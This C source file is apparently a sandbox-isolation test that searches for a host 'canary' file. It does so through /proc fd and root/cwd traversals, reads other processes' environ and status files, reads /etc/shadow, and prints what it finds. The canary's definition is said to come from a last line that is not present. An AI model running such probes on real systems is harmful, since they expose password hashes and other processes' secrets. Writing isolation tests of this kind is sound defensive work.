/* SPDX-License-Identifier: MIT */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char canary[]; /* a file on the host; the last line of this file says which */

static void show(const char *path)
{
	static char bytes[65536];
	int fd = open(path, O_RDONLY);
	ssize_t len = read(fd, bytes, sizeof(bytes));

	if (len > 0)
		fwrite(bytes, 1, (size_t)len, stdout);
	close(fd);
}

int main(void)
{
	static const char *const files[] = { "cmdline", "environ", "maps", "mountinfo", "status" };
	char path[4096];

	for (int fd = 3; fd < 1024; fd++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d/../../../../../../%s", fd, canary);
		show(path);
		if (read(fd, path, sizeof(path)) > 0)
			fwrite(path, 1, sizeof(path), stdout);
	}
	for (int pid = 1; pid < 10; pid++) {
		for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
			snprintf(path, sizeof(path), "/proc/%d/%s", pid, files[i]);
			if (pid != getpid() || strcmp(files[i], "environ") == 0)
				show(path);
		}
		snprintf(path, sizeof(path), "/proc/%d/root%s", pid, canary);
		show(path);
		snprintf(path, sizeof(path), "/proc/%d/cwd/../../..%s", pid, canary);
		show(path);
	}
	show(canary);
	show("/etc/shadow");
	puts("looked everywhere");
	return 0;
}
